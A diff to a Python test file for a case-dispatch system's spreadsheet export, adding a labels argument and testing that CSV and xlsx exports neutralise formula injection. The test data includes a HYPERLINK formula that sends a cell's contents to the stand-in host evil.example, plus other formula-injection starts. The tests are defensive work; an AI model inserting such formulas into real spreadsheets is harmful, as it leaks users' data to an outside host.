@@ -11,11 +11,13 @@ import pytest
 from dispatch.calendar import WorkingCalendar
 from dispatch.io import export_cases, import_cases
 from dispatch.sheet import formula_safe
+from dispatch.table import Labels
 from dispatch.workflow import Workflow
 
 pytestmark = pytest.mark.slow
 CAL = WorkingCalendar.load(Path(__file__).resolve().parents[2] / "data" / "xiamen" / "calendar.toml")
 NOW = datetime(2026, 11, 27, 3, 0, tzinfo=UTC)
+LABELS = Labels("zh", CAL.tz, {})  # codes stand for their names: these tests are about cells, not names
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"c")'
 # every start OWASP names, and text that only looks like a number at first
 DANGEROUS = [HYPERLINK, "+1+2", "-1+2", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
@@ -35,7 +37,7 @@ def hostile_cases(store, engine, tmp_path):
 
 
 def test_xlsx_export_has_no_formulas(hostile_cases, tmp_path):
-    export_cases(hostile_cases, tmp_path / "c.xlsx", "xlsx")
+    export_cases(hostile_cases, tmp_path / "c.xlsx", "xlsx", LABELS)
     sheet = openpyxl.load_workbook(tmp_path / "c.xlsx").active
     cells = [c for row in sheet.iter_rows() for c in row]
     assert [c.coordinate for c in cells if c.data_type == "f"] == []
@@ -48,8 +50,8 @@ def test_xlsx_export_has_no_formulas(hostile_cases, tmp_path):
 
 
 def test_csv_export_quotes_dangerous_cells(hostile_cases, tmp_path):
-    export_cases(hostile_cases, tmp_path / "c.csv", "csv")
-    with open(tmp_path / "c.csv", newline="", encoding="utf-8") as f:
+    export_cases(hostile_cases, tmp_path / "c.csv", "csv", LABELS)
+    with open(tmp_path / "c.csv", newline="", encoding="utf-8-sig") as f:
         rows = list(csv.DictReader(f))
     by_text = {r["description"].removeprefix("'"): r["description"] for r in rows}
     assert set(by_text) == set(DANGEROUS + HARMLESS)
@@ -74,7 +76,7 @@ def test_xlsx_export_survives_a_control_character_stored_earlier(engine, tmp_pat
 
     owners = owners_of(engine.resolve(118.13, 24.50, "06010", NOW), "")
     case = new_case(NewCase("06010", 118.13, 24.50, "hotline", NOW, "a\x00b\x1b"), owners, "reported", "t", NOW, "B1")
-    export_cases([case], tmp_path / "c.xlsx", "xlsx")
+    export_cases([case], tmp_path / "c.xlsx", "xlsx", LABELS)
     sheet = openpyxl.load_workbook(tmp_path / "c.xlsx").active
     header = [c.value for c in sheet[1]]
     assert sheet.cell(2, header.index("description") + 1).value == "a\ufffdb\ufffd"
